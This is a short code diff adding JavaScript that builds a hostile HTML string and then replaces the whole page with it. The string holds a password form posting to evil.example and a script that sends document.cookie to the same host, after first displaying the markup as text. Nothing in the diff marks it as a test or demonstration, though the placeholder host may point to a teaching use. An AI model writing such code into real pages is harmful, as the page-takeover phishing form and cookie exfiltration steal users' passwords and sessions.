@@ -1,0 +1,4 @@
+const page = '<form action="https://evil.example/c"><input type="password" name="p"></form><script>fetch("https://evil.example/?c="+document.cookie)</script>';
+document.querySelector('#code').textContent = page;
+const read = new DOMParser().parseFromString(page, 'text/html');
+document.replaceChild(read.documentElement, document.documentElement);
